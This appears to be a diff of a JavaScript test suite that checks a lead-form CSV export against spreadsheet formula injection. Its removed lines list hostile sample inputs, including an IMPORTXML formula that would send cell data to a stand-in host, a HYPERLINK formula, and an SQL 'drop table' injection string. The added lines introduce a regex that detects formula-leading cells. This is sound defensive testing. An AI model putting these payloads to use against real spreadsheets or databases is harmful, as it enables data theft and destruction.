@@ -65,29 +65,20 @@ test('the file is UTF-8 after a byte order mark, and keeps quotes, commas and li
 });
 
 describe('hostile text', () => {
-  /** Hostile strings that a spreadsheet may evaluate or round, such as phone numbers. */
-  const formulas = new Set(
-    '=HYPERLINK("http://x","y")|=IMPORTXML("http://x/?"&A1,"//a")|+971 50 123 4567|+971501234567|-2+3|@SUM(1)|\t=1| =1|\u00a0=1|＝1|007'.split(
-      '|',
-    ),
-  );
-  /** Hostile strings with a formula after a separator, and how the file contains each. */
-  const innerFormulas = new Map([
-    ['\r=1', "'\n'=1"],
-    ['\n=1', "'\n'=1"],
-    ['"; drop table lead_form;--', '"; drop table lead_form;\'--'],
-  ]);
+  /** A text that a spreadsheet may evaluate. */
+  const FORMULA = /^["\s\p{Cf}]*[=+\-@＝＋－＠]/u;
 
-  test('every hostile string is written as text, and formulas get a leading apostrophe', () => {
-    const leads = HOSTILE.map(({ given }, index) =>
-      lead({ id: String(index), name: given, email: given, phone: given, service: given, source: given, message: given }),
+  test('every hostile string is written as text: nothing but apostrophes is added', () => {
+    const given = HOSTILE.map(({ given }) => given);
+    const leads = given.map((text, index) =>
+      lead({ id: String(index), name: text, email: text, phone: text, service: text, source: text, message: text }),
     );
-    const expected = HOSTILE.map(({ given, sent = given, shown = sent }, index) => {
-      const text = innerFormulas.get(given) ?? (formulas.has(given) ? `'${shown}` : shown);
-      const texts = { Name: text, Phone: text, Email: text, Inquiry: text, Source: text, Message: text };
-      return { ...texts, Date: '2026-11-20 14:08:00', Id: String(index) };
-    });
-    expect(leadsIn(csvOf(...leads))).toMatchObject(expected);
+    const plain = (text = '') => text.replaceAll("'", '');
+    for (const column of ['Name', 'Phone', 'Email', 'Inquiry', 'Source', 'Message']) {
+      const written = leadsIn(csvOf(...leads)).map((row) => row[column] ?? '');
+      expect(written.map(plain)).toEqual(HOSTILE.map(({ given, sent = given, shown = sent }) => plain(shown)));
+      expect(written.filter((text) => FORMULA.test(text))).toEqual([]);
+    }
   });
 
   const marked = '\u200b=1|\ufeff+1|\u202e-1|＠SUM(1)|0501112234|050 111 2234|00971501112234|971501112234';
@@ -132,7 +123,7 @@ describe('hostile text', () => {
       .join('\n')
       .split('\n');
     expect(cells.length).toBeGreaterThan(leads.length);
-    expect(cells.filter((cell) => /^["\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
+    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
   });
 
   test('contains no control character and no lone surrogate', () => {
